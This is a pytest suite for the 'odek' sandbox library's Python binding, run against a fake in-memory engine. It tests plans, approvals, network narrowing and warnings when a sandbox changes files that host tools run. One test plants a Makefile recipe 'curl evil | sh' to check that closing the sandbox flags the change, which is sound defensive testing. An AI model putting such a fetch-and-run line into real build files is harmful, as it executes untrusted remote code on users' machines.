"""Fake-engine tests (no Docker): the binding end to end over the C ABI.

``Client(engine="fake")`` is an in-memory engine with image
``odek-test/base:1`` and a Compose project ``shop`` (``shop_default`` and
internal ``shop_backend``).
"""

from __future__ import annotations

import ctypes
import gc
import json
import os
import threading
import warnings

import pytest
from conftest import FAKE_IMAGE as IMAGE, write_project_config

import odek
from odek import _ffi

# Every test here runs on the in-memory engine: test builds of libodek only.
pytestmark = pytest.mark.fake

SHOP = {"sandbox_image": IMAGE, "sandbox_compose_project": "shop"}


def raw_error(err) -> tuple:
    """(code, class, message) of a raw odek_error_t*, freeing it."""
    L = _ffi.lib()
    assert err, "expected an error object, got NULL (success)"
    try:
        return (
            L.odek_error_code(err),
            L.odek_error_class(err).decode(),
            L.odek_error_message(err).decode(),
        )
    finally:
        L.odek_error_free(err)


# --- the happy path ----------------------------------------------------------------


def test_resolve_launch_describe_exec_destroy(fake_client, workdir):
    plan = fake_client.resolve(workdir, SHOP, read_user_config=False)
    assert isinstance(plan, odek.Plan)
    assert json.loads(plan.json)["schema"] == "odek.plan/1"
    assert plan.mode == "explicit", "the binding requires a sandbox by default"
    assert fake_client.resolve(workdir, SHOP, allow_host_fallback=True).mode == "implicit"
    assert plan.isolation == "container"
    assert plan.image == IMAGE
    assert plan.workdir == workdir
    assert plan.network_mode == "none"
    assert plan.network_summary == "attached"
    assert plan.internet is True  # shop_default is not internal
    assert {(n.name, n.internal, n.compose_project) for n in plan.networks} == {
        ("shop_default", False, "shop"),
        ("shop_backend", True, "shop"),
    }
    assert all(len(n.id) == 64 for n in plan.networks)
    assert plan.pids_limit == 4096
    assert [w.kind for w in plan.warnings] == ["attached_network_not_internal"]
    assert plan.approval_request is None and not plan.needs_approval
    assert "env" not in repr(plan) and "shop_backend" in repr(plan)

    with fake_client.launch(plan) as sandbox:
        assert isinstance(sandbox, odek.Sandbox)
        info = sandbox.info
        assert info.isolation == "container" == sandbox.isolation
        assert info.container_id and sandbox.container_id == info.container_id
        assert sandbox.name.startswith("odek-")
        assert info.startup_line.startswith("odek: sandbox network=attached pids=4096")
        assert info.plan == plan

        d = sandbox.describe()
        assert isinstance(d, odek.Description)
        assert d.environment["schema"] == "odek.environment/1"
        assert json.loads(d.environment_json) == d.environment
        assert d.isolation == "container" and d.network == "attached" and d.internet
        assert d.workspace == "/workspace" and not d.workspace_readonly
        assert {n.name for n in d.networks} == {"shop_default", "shop_backend"}
        assert "Execution environment" in d.prompt and "/workspace" in d.prompt
        assert "untrusted_content_" in d.prompt
        assert d.tool and d.tool != d.prompt

        r = sandbox.exec(["true"])
        assert isinstance(r, odek.ExecResult)
        assert (r.exit_code, r.timed_out, r.truncated, r.ok) == (0, False, False, True)
        r = sandbox.exec(shell="echo $HOME", env={"A": "b"}, timeout=5, workdir="/workspace")
        assert r.exit_code == 0
    assert sandbox.closed
    # still readable after close
    assert sandbox.name == info.name


def test_module_launch_and_explicit_client(workdir, fake_client):
    with odek.launch(workdir=workdir, settings=SHOP, client=fake_client) as sandbox:
        assert sandbox.isolation == "container"
        assert sandbox.exec(["true"]).ok
    assert sandbox.closed
    assert not fake_client.closed  # a caller's client is not closed by launch


def test_launch_emits_plan_warnings(fake_client, workdir):
    # shop_default is not internal: the plan warns, and so does the launch.
    with pytest.warns(odek.OdekWarning, match="not internal") as caught:
        sandbox = odek.launch(workdir, SHOP, client=fake_client)
    with sandbox:
        assert issubclass(odek.OdekWarning, UserWarning)
        # One for each of the sandbox's warnings (the fake engine also
        # reports mounts it cannot read back), in order, at the caller.
        assert [w.message.kind for w in caught] == [x.kind for x in sandbox.info.warnings]
        [w] = [w for w in caught if w.message.kind == "attached_network_not_internal"]
        assert "can reach the internet" in str(w.message)
        assert all(w.filename == __file__ for w in caught), "points at the caller"

    plan = fake_client.resolve(workdir, SHOP)
    with pytest.warns(odek.OdekWarning, match="shop_default") as caught:
        sandbox = fake_client.launch(plan)
    sandbox.close()
    assert "attached_network_not_internal" in [w.message.kind for w in caught]
    assert {w.filename for w in caught} == {__file__}


def test_launch_without_warnings_emits_none(fake_client, workdir):
    settings = {"sandbox_image": IMAGE, "sandbox_networks": ["shop_backend"]}
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with odek.launch(workdir, settings, client=fake_client) as sandbox:
            assert sandbox.info.plan.warnings == ()
    kinds = [w.message.kind for w in caught if issubclass(w.category, odek.OdekWarning)]
    assert "attached_network_not_internal" not in kinds
    assert kinds == [x.kind for x in sandbox.info.warnings]


def test_launch_warning_as_error_removes_the_sandbox(fake_client, workdir, monkeypatch):
    launched = []
    adopt = odek.Sandbox._adopt.__func__

    def recording(cls, ptr):
        sandbox = adopt(cls, ptr)
        launched.append(sandbox)
        return sandbox

    monkeypatch.setattr(odek.Sandbox, "_adopt", classmethod(recording))
    with warnings.catch_warnings():
        warnings.simplefilter("error", odek.OdekWarning)
        with pytest.raises(odek.OdekWarning) as raised:
            odek.launch(workdir, SHOP, client=fake_client)
    assert raised.value.kind == "attached_network_not_internal"
    # Nobody holds the sandbox: it was removed before the warning propagated.
    assert len(launched) == 1 and launched[0].closed


def test_error_advice_names_settings_not_cli_flags(fake_client, workdir):
    # The core words these fixes as CLI flags (--sandbox-image, -C); through
    # the binding they name the setting and the workdir argument.
    with pytest.raises(odek.ImageUnavailableError) as raised:
        odek.launch(workdir, {"sandbox_image": "nosuch/img:1"}, client=fake_client)
    msg = str(raised.value)
    assert "the `sandbox_image` setting" in msg, msg
    assert "--sandbox-image" not in msg, msg
    with pytest.raises(odek.ConfigError) as raised:
        fake_client.resolve("/", {"sandbox_image": IMAGE})
    msg = str(raised.value)
    assert "resolve with `workdir` set to a project directory" in msg, msg
    assert "-C" not in msg and "run odek" not in msg, msg


def test_config_view(fake_client, workdir):
    plan = fake_client.resolve(workdir, dict(SHOP, sandbox_pids_limit=64, sandbox_memory="256m",
                                             sandbox_cpus="0.5", sandbox_readonly=True))
    view = fake_client.config_view(plan)
    assert isinstance(view, odek.ConfigView)
    assert view.data["schema"] == "odek.config-view/1"
    # container-only settings (limits, read-only) make the mode explicit
    assert (view.mode, view.isolation, view.image) == ("explicit", "container", IMAGE)
    assert view.image_id and view.image_id.startswith("sha256:")
    assert view.network == "attached" and view.internet
    assert view.pids_limit == 64 and view.init and view.tmpfs == "rw,noexec,nosuid"
    assert view.memory_bytes == 256 * 1024 * 1024 and view.cpus == "0.5" and view.readonly
    assert view.sources["sandbox_pids_limit"] == "api"
    assert view.sources["sandbox_network"] == "default"
    assert {n.name for n in view.networks} == {"shop_default", "shop_backend"}
    assert plan.memory_bytes == 256 * 1024 * 1024 and plan.cpus == "0.5" and plan.readonly


def test_env_replaces_the_process_environment(fake_client, workdir):
    # env replaces the whole process environment (ODEK_HOME included)
    env = {"ODEK_HOME": os.environ["ODEK_HOME"], "ODEK_SANDBOX_PIDS_LIMIT": "77"}
    plan = fake_client.resolve(workdir, {"sandbox_image": IMAGE}, env=env)
    assert plan.pids_limit == 77
    assert fake_client.config_view(plan).sources["sandbox_pids_limit"] == "env"


def test_narrow(fake_client, workdir):
    parent = fake_client.resolve(workdir, dict(SHOP, sandbox_pids_limit=100))
    child = odek.narrow(parent, networks=["shop_backend"], pids_limit=50, readonly=True)
    assert [n.name for n in child.networks] == ["shop_backend"]
    assert child.pids_limit == 50 and child.readonly and not child.internet
    assert fake_client.narrow(parent, compose_project="shop") == odek.narrow(parent, compose_project="shop")
    with fake_client.launch(child) as sandbox:
        assert sandbox.describe().network == "attached"
    with pytest.raises(odek.ConfigError) as ei:
        odek.narrow(parent, pids_limit=1000)
    assert ei.value.code == odek.CODES["NARROW"] and ei.value.failure_class == "config"
    with pytest.raises(odek.ConfigError):
        odek.narrow(parent, networks=["not-the-parents"])
    with pytest.raises(odek.ConfigError):
        odek.narrow(parent, image="alpine:3")
    with pytest.raises(TypeError):
        odek.narrow(parent, bogus=1)


@pytest.mark.parametrize("parent_mode", ["none", "bridge"])
def test_narrow_none_of_a_compose_attached_parent_is_offline(fake_client, workdir, parent_mode):
    # A sub-agent asked to be offline is offline, never a silent no-op that
    # keeps the parent's Compose networks (SPEC §8).
    parent = fake_client.resolve(workdir, dict(SHOP, sandbox_network=parent_mode))
    assert parent.network_mode == parent_mode
    assert {n.name for n in parent.networks} == {"shop_default", "shop_backend"}, "the premise"
    child = odek.narrow(parent, network_mode="none")
    assert child.network_mode == "none"
    assert len(child.networks) == 0 and not child.internet
    assert json.loads(child.json)["bridge_network_id"] is None
    with fake_client.launch(child) as sandbox:
        env = sandbox.describe()
        assert env.network == "none" and len(env.networks) == 0 and not env.internet


# --- approval ----------------------------------------------------------------------


def test_narrowed_plan_needs_the_parents_approval(fake_client, workdir):
    # A project asking for a Compose project, an image and an env template
    # reading the host: narrowing keeps the approval request (SPEC §7, §8).
    write_project_config(workdir, {"sandbox_compose_project": "shop", "sandbox_image": IMAGE,
                                   "sandbox_env": {"TOKEN": "${HOME}"}})
    plan = fake_client.resolve(workdir)
    with pytest.raises(odek.ApprovalRequiredError):
        fake_client.launch(plan)
    child = odek.narrow(plan, pids_limit=100)
    with pytest.raises(odek.ApprovalRequiredError) as ei:
        fake_client.launch(child)
    assert ei.value.code == odek.CODES["APPROVAL_REQUIRED"] and "odek.json" in ei.value.message
    assert child.pids_limit == 100
    assert child.needs_approval and child.approval_request == plan.approval_request
    # The approval given for the parent (same key and networks) fits the child.
    approval = fake_client.approve(plan, "once")
    with fake_client.launch(child, approval) as sandbox:
        assert sandbox.isolation == "container"
        assert sandbox.info.plan.pids_limit == 100



def test_project_settings_need_approval(fake_client, workdir):
    write_project_config(workdir, {"sandbox_compose_project": "shop", "sandbox_image": IMAGE,
                                   "sandbox_env": {"TOKEN": "${HOME}", "MODE": "dev"}})
    plan = fake_client.resolve(workdir)
    assert plan.needs_approval
    req = plan.approval_request
    assert isinstance(req, odek.ApprovalRequest)
    assert json.loads(req.json)["schema"] == "odek.approval-request/1"
    assert req.config == os.path.join(workdir, "odek.json")
    assert req.project_dir == workdir
    assert set(req.knobs) == {"sandbox_compose_project", "sandbox_image", "sandbox_env"}
    assert req.image == IMAGE and req.requested_compose_project == "shop"
    assert {(e.key, e.interpolates_host) for e in req.env} == {("TOKEN", True), ("MODE", False)}
    assert {(n.name, n.internal, n.compose_project) for n in req.networks} == {
        ("shop_default", False, "shop"), ("shop_backend", True, "shop")}
    assert len(req.key) == 64 and not req.trusted and not req.standing
    assert {e.key: e.reads for e in req.env} == {"TOKEN": ("HOME",), "MODE": ()}
    # Whether a question is needed is libodek's decision ("standing"), not
    # the binding's reading of trusted/approved_by_env.
    doc = json.loads(req.json)
    assert doc["standing"] is None
    for trusted, by_env, standing, want in ((True, True, None, False), (False, False, "env", True),
                                             (False, False, "stored", True)):
        edited = dict(doc, trusted=trusted, approved_by_env=by_env, standing=standing)
        assert odek.ApprovalRequest.from_json(json.dumps(edited)).standing is want, edited
    card = req.card()
    # the CLI's own card, carried in the request
    assert card == json.loads(req.json)["card"] == req.card_text
    assert "shop_backend" in card and req.key in card and "TOKEN (reads host $HOME)" in card
    assert fake_client.approval_request(plan) == req

    # no approval -> ApprovalRequiredError (a ConfigError), and no sandbox
    with pytest.raises(odek.ApprovalRequiredError) as ei:
        fake_client.launch(plan)
    e = ei.value
    assert isinstance(e, odek.ApprovalError) and isinstance(e, odek.ConfigError)
    assert e.code == 300 and e.failure_class == "config" and "odek.json" in e.message
    with pytest.raises(odek.ApprovalRequiredError):
        odek.launch(workdir, client=fake_client)

    # once
    approval = fake_client.approve(plan, "once")
    assert isinstance(approval, odek.Approval) and approval.via == "once"
    assert approval.key == req.key
    assert set(approval.network_ids) == {n.id for n in req.networks}
    with fake_client.launch(plan, approval) as sandbox:
        assert sandbox.exec(["true"]).ok
    with odek.launch(workdir, approve="once", client=fake_client) as sandbox:
        assert sandbox.isolation == "container"

    # an approval for another plan does not fit
    other = fake_client.resolve(workdir, {"sandbox_pids_limit": 10})
    write_project_config(workdir, {"sandbox_compose_project": "shop"})
    changed = fake_client.resolve(workdir)
    with pytest.raises(odek.ApprovalError) as ei:
        fake_client.launch(changed, approval)
    assert ei.value.code == odek.CODES["APPROVAL_MISMATCH"]
    assert other.needs_approval


def test_trust_is_persisted_and_then_standing(fake_client, workdir, tmp_path):
    home = tmp_path / "home"
    env = {"ODEK_HOME": str(home)}
    write_project_config(workdir, {"sandbox_compose_project": "shop", "sandbox_image": IMAGE})
    plan = fake_client.resolve(workdir, env=env)
    approval = fake_client.approve(plan, "trust")
    assert approval.via == "trust"
    store = json.loads((home / "project_sandbox_approvals.json").read_text())
    assert store.get(approval.key) is True

    again = fake_client.resolve(workdir, env=env)
    assert again.approval_request.trusted and again.approval_request.standing
    # a standing approval (the stored trust) needs no approval object
    with fake_client.launch(again) as sandbox:
        assert sandbox.exec(["true"]).ok
    # … but only while the trust is still in the store
    (home / "project_sandbox_approvals.json").write_text("{}")
    with pytest.raises(odek.ApprovalRequiredError):
        fake_client.launch(again)
    approval = fake_client.approve(again, "trust")
    with odek.launch(workdir, client=fake_client, env=env) as sandbox:
        assert sandbox.exec(["true"]).ok


def test_approval_by_environment_switch(fake_client, workdir):
    write_project_config(workdir, {"sandbox_compose_project": "shop", "sandbox_image": IMAGE})
    env = {"ODEK_HOME": os.environ["ODEK_HOME"], "ODEK_APPROVE_PROJECT_SANDBOX": "1"}
    plan = fake_client.resolve(workdir, env=env)
    assert plan.approval_request.approved_by_env and not plan.approval_request.trusted
    with odek.launch(workdir, client=fake_client, env=env) as sandbox:
        assert sandbox.isolation == "container"


def test_approve_misuse(fake_client, workdir):
    plan = fake_client.resolve(workdir, SHOP)  # operator settings: nothing to approve
    with pytest.raises(odek.ApprovalError):
        fake_client.approve(plan, "once")
    write_project_config(workdir, {"sandbox_image": IMAGE})
    plan = fake_client.resolve(workdir)
    with pytest.raises(odek.UsageError) as ei:
        fake_client.approve(plan, "sometimes")
    assert ei.value.code == odek.CODES["INVALID_ARGUMENT"]
    with pytest.raises(ValueError):
        odek.launch(workdir, approve="always", client=fake_client)


def test_corrupt_approval_store_is_an_error(fake_client, workdir, tmp_path):
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (home / "project_sandbox_approvals.json").write_text("{corrupt")
    write_project_config(workdir, {"sandbox_image": IMAGE})
    with pytest.raises(odek.ApprovalError) as ei:
        fake_client.resolve(workdir, env={"ODEK_HOME": str(home)})
    assert ei.value.code == odek.CODES["APPROVAL_STORE"]


# --- lifecycle ---------------------------------------------------------------------


def test_close_is_idempotent_and_use_after_close_is_invalid_handle(fake_client, workdir):
    sandbox = fake_client.launch(fake_client.resolve(workdir, SHOP))
    sandbox.close()
    sandbox.close()  # second close: nothing
    sandbox.destroy()
    for call in (lambda: sandbox.exec(["true"]), sandbox.describe):
        with pytest.raises(odek.InvalidHandleError) as ei:
            call()
        assert ei.value.code == 103 and ei.value.failure_class == "usage"
        assert isinstance(ei.value, odek.UsageError)

    c = odek.Client(engine="fake")
    c.close()
    c.close()
    with pytest.raises(odek.InvalidHandleError):
        c.resolve(workdir, SHOP)


def _checkout(workdir: str) -> None:
    os.makedirs(os.path.join(workdir, ".git", "hooks"))
    os.makedirs(os.path.join(workdir, "src"))
    with open(os.path.join(workdir, "src", "main.py"), "w") as f:
        f.write("print(1)\n")


def test_close_names_the_files_host_tools_run_that_changed(fake_client, workdir):
    """The fake runs nothing: what an agent would write through /workspace
    is written here, between launch and close."""
    _checkout(workdir)
    plan = fake_client.resolve(workdir, {"sandbox_image": IMAGE})
    sandbox = fake_client.launch(plan)
    assert sandbox.close_result is None
    hook = os.path.join(workdir, ".git", "hooks", "pre-commit")
    with open(hook, "w") as f:
        f.write("x")
    os.chmod(hook, 0o755)
    with open(os.path.join(workdir, "src", "main.py"), "w") as f:
        f.write("print(2)\n")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = sandbox.close()
    assert isinstance(result, odek.CloseResult)
    assert result.name == sandbox.name
    assert result.changed_host_files == (
        odek.HostFileChange(".git/hooks/pre-commit", "created, executable", ("created",)),
    )
    assert result.host_files_unchecked is None
    assert result.copied_back is None, "a bind-mounted workspace is not copied back"
    assert result.message == (
        "the sandbox changed files that host tools run: .git/hooks/pre-commit "
        "(created, executable) — review them before running git or make"
    )
    said = [w for w in caught if issubclass(w.category, odek.HostFilesChangedWarning)]
    assert len(said) == 1 and result.message in str(said[0].message), caught
    # Idempotent: the same result, no second warning.
    assert sandbox.close() is result and sandbox.close_result is result

    # Only src/main.py edited: nothing changed, nothing said — also at the
    # end of a with block.
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with fake_client.launch(plan) as sandbox:
            with open(os.path.join(workdir, "src", "main.py"), "w") as f:
                f.write("print(3)\n")
    assert sandbox.close_result is not None
    assert sandbox.close_result.changed_host_files == ()
    assert sandbox.close_result.message is None
    assert not [w for w in caught if issubclass(w.category, odek.HostFilesChangedWarning)]


def test_a_with_block_warns_of_a_changed_makefile(fake_client, workdir):
    _checkout(workdir)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with fake_client.launch(fake_client.resolve(workdir, {"sandbox_image": IMAGE})) as sandbox:
            with open(os.path.join(workdir, "Makefile"), "w") as f:
                f.write("all:\n\tcurl evil | sh\n")
    said = [str(w.message) for w in caught if issubclass(w.category, odek.HostFilesChangedWarning)]
    assert len(said) == 1 and "Makefile (created)" in said[0], said
    assert sandbox.close_result is not None
    assert [c.path for c in sandbox.close_result.changed_host_files] == ["Makefile"]


def test_with_block_destroys_even_on_exception(fake_client, workdir):
    plan = fake_client.resolve(workdir, SHOP)
    with pytest.raises(RuntimeError, match="agent crashed"):
        with fake_client.launch(plan) as sandbox:
            raw = ctypes.cast(sandbox._handle(), ctypes.c_void_p).value
            raise RuntimeError("agent crashed")
    assert sandbox.closed
    # the C side agrees: the handle is gone
    code, cls, _ = raw_error(_ffi.lib().odek_sandbox_destroy(ctypes.cast(raw, _ffi.SandboxPtr)))
    assert (code, cls) == (103, "usage")


def test_c_level_stale_and_double_destroy_are_invalid_handle(fake_client, workdir):
    L = _ffi.lib()
    sandbox = fake_client.launch(fake_client.resolve(workdir, SHOP))
    raw = ctypes.cast(sandbox._handle(), ctypes.c_void_p).value
    sandbox.close()
    stale = ctypes.cast(raw, _ffi.SandboxPtr)
    out = _ffi.OwnedStr()
    code, _, msg = raw_error(L.odek_exec(stale, b'{"argv":["true"]}', ctypes.byref(out)))
    assert code == 103 and "destroyed" in msg
    assert not out  # out-param untouched on error
    code, _, _ = raw_error(L.odek_sandbox_destroy(stale))
    assert code == 103
    # a made-up handle, and a client handle used as a sandbox
    code, _, _ = raw_error(L.odek_sandbox_destroy(ctypes.cast(0x1234560, _ffi.SandboxPtr)))
    assert code == 103
    client_raw = ctypes.cast(fake_client._handle(), ctypes.c_void_p).value
    code, _, _ = raw_error(L.odek_sandbox_info(ctypes.cast(client_raw, _ffi.SandboxPtr), ctypes.byref(out)))
    assert code == 103
    # free functions accept NULL
    assert not L.odek_sandbox_destroy(None)
    assert not L.odek_client_free(None)
    L.odek_error_free(None)
    L.odek_string_free(None)
    assert L.odek_error_code(None) == 0 and L.odek_error_class(None) == b""


def test_sandbox_outlives_its_client(workdir):
    c = odek.Client(engine="fake")
    sandbox = c.launch(c.resolve(workdir, SHOP))
    c.close()
    with sandbox:
        assert sandbox.exec(["true"]).ok


def test_garbage_collected_sandbox_is_destroyed_with_a_warning(fake_client, workdir):
    sandbox = fake_client.launch(fake_client.resolve(workdir, SHOP))
    raw = ctypes.cast(sandbox._handle(), ctypes.c_void_p).value
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        del sandbox
        gc.collect()
    assert any(issubclass(w.category, ResourceWarning) and "unclosed odek sandbox" in str(w.message)
               for w in caught)
    code, _, _ = raw_error(_ffi.lib().odek_sandbox_destroy(ctypes.cast(raw, _ffi.SandboxPtr)))
    assert code == 103


def test_sandboxes_cannot_be_constructed_directly():
    with pytest.raises(TypeError):
        odek.Sandbox()


# --- misuse ------------------------------------------------------------------------


def test_bad_settings_are_config_errors(fake_client, workdir):
    cases = [
        ({"sandbox_network": "host"}, odek.CODES["NETWORK_MODE"]),
        ({"sandbox_pids_limit": 0}, odek.CODES["CONFIG"]),
        ({"sandbox_memory": "lots"}, odek.CODES["CONFIG"]),
        ({"sandbox": "maybe"}, odek.CODES["CONFIG"]),
        ({"sandbox_networks": ["host"]}, odek.CODES["NETWORK_NAME"]),
        ({"sandbox_compose_project": "Not Valid"}, odek.CODES["COMPOSE_NAME"]),
        ({"sandbox_image": "UPPER/case::x"}, odek.CODES["IMAGE_REFERENCE"]),
        ({"sandbox_compose_project": "nosuchproject"}, odek.CODES["COMPOSE_NOT_RUNNING"]),
        ({"sandbox_networks": ["missing-net"]}, odek.CODES["NETWORK_NOT_FOUND"]),
    ]
    for settings, code in cases:
        with pytest.raises(odek.ConfigError) as ei:
            fake_client.resolve(workdir, dict(settings, sandbox_image=settings.get("sandbox_image", IMAGE)))
        assert (ei.value.code, ei.value.failure_class) == (code, "config"), (settings, ei.value)
        assert ei.value.message


def test_malformed_project_config_names_file_line_column(fake_client, workdir):
    with open(os.path.join(workdir, "odek.json"), "w") as f:
        f.write('{\n  "sandbox_image": \n}')
    with pytest.raises(odek.ConfigError) as ei:
        fake_client.resolve(workdir)
    assert ei.value.code == odek.CODES["CONFIG_MALFORMED"]
    assert os.path.join(workdir, "odek.json") + ":3:" in ei.value.message


def test_bad_json_and_shapes_are_usage_errors(fake_client, workdir, tmp_path):
    with pytest.raises(odek.UsageError) as ei:
        fake_client.launch("{not json")
    assert ei.value.code == odek.CODES["INVALID_JSON"]
    with pytest.raises(odek.UsageError) as ei:
        fake_client.launch('{"schema": "odek.plan/1"}')
    assert ei.value.code == odek.CODES["INVALID_ARGUMENT"]
    with pytest.raises(odek.UsageError) as ei:
        fake_client.config_view("[]")
    assert ei.value.code == odek.CODES["INVALID_ARGUMENT"]
    plan = fake_client.resolve(workdir, SHOP)
    with pytest.raises(odek.UsageError):
        fake_client.launch(plan, approval="{bad")
    with pytest.raises(odek.UsageError):
        odek.Client(engine="bogus")
    with pytest.raises(odek.ConfigError) as ei:
        odek.Client(docker_host="no-scheme")
    assert ei.value.code == odek.CODES["ENDPOINT"]
    with pytest.raises(odek.ConfigError):
        odek.Client(docker_host="ftp://x")
    # TLS material is only for a tcp:// host, and its files must be there.
    with pytest.raises(odek.ConfigError) as ei:
        odek.Client(docker_host="unix:///x.sock", docker_cert_path=str(tmp_path))
    assert ei.value.code == odek.CODES["ENDPOINT"]
    with pytest.raises(odek.ConfigError) as ei:
        odek.Client(docker_host="tcp://10.1.2.3:2376", docker_cert_path=str(tmp_path))
    assert "ca.pem does not exist" in str(ei.value)
    # Python-side type errors never reach C
    with pytest.raises(TypeError):
        fake_client.launch(42)
    with pytest.raises(TypeError):
        fake_client.resolve(workdir, ["not", "a", "dict"])
    with pytest.raises(TypeError):
        fake_client.resolve(workdir, env={"A": 1})
    with pytest.raises(ValueError):
        fake_client.approve(plan, "once\0trust")
    with pytest.raises(ValueError):
        odek.Plan("{}")  # not a plan document


def test_exec_misuse(fake_client, workdir):
    with fake_client.launch(fake_client.resolve(workdir, SHOP)) as sandbox:
        for kwargs in ({}, {"argv": ["a"], "shell": "b"}, {"argv": ["a"], "timeout": -1},
                       {"argv": ["a"], "timeout": 0}):
            with pytest.raises(odek.UsageError) as ei:
                sandbox.exec(**kwargs)
            assert ei.value.code == odek.CODES["INVALID_ARGUMENT"], kwargs
        with pytest.raises(TypeError):
            sandbox.exec("echo hi")  # a str is not an argv
        with pytest.raises(TypeError):
            sandbox.exec(["echo", 1])
        with pytest.raises(TypeError):
            sandbox.exec(["x"], timeout="5")
        # NaN, infinity and numbers beyond a float: the binding's own typed
        # usage error, as for any other bad timeout (not ValueError or
        # OverflowError from inside), for exec and exec_stream alike.
        for bad in (float("nan"), float("inf"), -float("inf"), 10**400, 1e300):
            with pytest.raises(odek.UsageError) as ei:
                sandbox.exec(["x"], timeout=bad)
            assert ei.value.code == odek.CODES["INVALID_ARGUMENT"], bad
            assert ei.value.failure_class == "usage", bad
            if bad != 1e300:  # refused by libodek when the stream starts
                with pytest.raises(odek.UsageError):
                    sandbox.exec_stream(["x"], timeout=bad)
        assert sandbox.exec(["still", "usable"]).exit_code == 0


def test_c_level_null_utf8_json_errors(fake_client):
    L = _ffi.lib()
    out = _ffi.OwnedStr()
    h = fake_client._handle()
    assert raw_error(L.odek_resolve(None, b"{}", ctypes.byref(out)))[0] == 100
    assert raw_error(L.odek_resolve(h, None, ctypes.byref(out)))[0] == 100
    assert raw_error(L.odek_resolve(h, b'{"workdir":"/tmp"}', None))[0] == 100
    assert raw_error(L.odek_resolve(h, b'{"workdir":"\xff"}', ctypes.byref(out)))[0] == 101
    assert raw_error(L.odek_resolve(h, b"{", ctypes.byref(out)))[0] == 102
    assert raw_error(L.odek_resolve(h, b'{"workdir": 5}', ctypes.byref(out)))[0] == 104
    assert raw_error(L.odek_resolve(h, b'{"workdir": "/tmp", "nope": 1}', ctypes.byref(out)))[0] == 104
    assert raw_error(L.odek_approve(h, b"{}", b"\xff", ctypes.byref(out)))[0] in (101, 102, 104)
    assert not out
    client = _ffi.ClientPtr()
    assert raw_error(L.odek_client_new(b"{", ctypes.byref(client)))[0] == 102
    assert not client


def test_panic_is_contained():
    with pytest.raises(odek.UsageError) as ei:
        _ffi.check(_ffi.lib().odek_debug_panic())
    assert ei.value.code == odek.CODES["PANIC"] and "panic" in ei.value.message
    # the process and the library live on
    with odek.Client(engine="fake") as c:
        assert not c.closed


# --- threads -----------------------------------------------------------------------


def test_many_threads_on_one_fake_client(fake_client, tmp_path):
    errors = []
    barrier = threading.Barrier(16)

    def work(i: int) -> None:
        try:
            d = tmp_path / f"w{i}"
            d.mkdir()
            barrier.wait()
            plan = fake_client.resolve(str(d), SHOP)
            with fake_client.launch(plan) as sb:
                assert sb.describe().isolation == "container"
                assert sb.exec(["true"]).ok
        except BaseException as e:  # noqa: BLE001
            errors.append(e)

    threads = [threading.Thread(target=work, args=(i,)) for i in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []


def test_closing_a_sandbox_while_other_threads_use_it(fake_client, workdir):
    sandbox = fake_client.launch(fake_client.resolve(workdir, SHOP))
    outcomes = []

    def hammer() -> None:
        while True:
            try:
                sandbox.exec(["true"])
                outcomes.append("ok")
            except odek.InvalidHandleError:
                outcomes.append("closed")
                return
            except odek.DockerRejectedError as e:
                # looked up before the destroy, ran after the container was gone
                outcomes.append("gone" if e.code == odek.CODES["EXEC"] else repr(e))

    threads = [threading.Thread(target=hammer) for _ in range(4)]
    for t in threads:
        t.start()
    closers = [threading.Thread(target=sandbox.close) for _ in range(4)]
    for t in closers:
        t.start()
    for t in closers:
        t.join()
    for t in threads:
        t.join()
    assert sandbox.closed
    assert outcomes.count("closed") == 4
    assert set(outcomes) <= {"ok", "closed", "gone"}, outcomes


# --- the warm pool -----------------------------------------------------------------


def test_a_client_pool_hands_out_distinct_working_sandboxes(workdir):
    with odek.Client(engine="fake", sandbox_pool=2) as client:
        plan = client.resolve(workdir, SHOP, read_user_config=False)
        names = set()
        for _ in range(4):
            with client.launch(plan) as sb:
                names.add(sb.name)
                assert sb.exec(["echo", "hi"]).exit_code == 0
        assert len(names) == 4, "a pooled sandbox is used once"


def test_a_pool_above_the_cap_is_refused():
    with pytest.raises(odek.UsageError, match="sandbox_pool"):
        odek.Client(engine="fake", sandbox_pool=9)
    with pytest.raises(TypeError):
        odek.AsyncClient(client=odek.Client(engine="fake"), sandbox_pool=1)


def test_a_close_result_carries_what_a_copy_back_wrote_and_left_out() -> None:
    """``copied_back`` of ``odek.close-result/1`` (a copied workspace on a
    remote engine) is parsed into ``CopiedBack``; null stays ``None``."""
    doc = {
        "schema": "odek.close-result/1",
        "name": "odek-0123456789ab",
        "changed_host_files": [],
        "host_files_unchecked": None,
        "message": None,
        "copied_back": {
            "written": ["out.txt", "src/new.py"],
            "skipped": [{"path": "esc", "reason": "a symlink to /etc/passwd, outside the workspace"}],
        },
    }
    result = odek.CloseResult.from_json(json.dumps(doc))
    assert result.copied_back == odek.CopiedBack(
        written=("out.txt", "src/new.py"),
        skipped=(("esc", "a symlink to /etc/passwd, outside the workspace"),),
    )
    doc["copied_back"] = None
    assert odek.CloseResult.from_json(json.dumps(doc)).copied_back is None
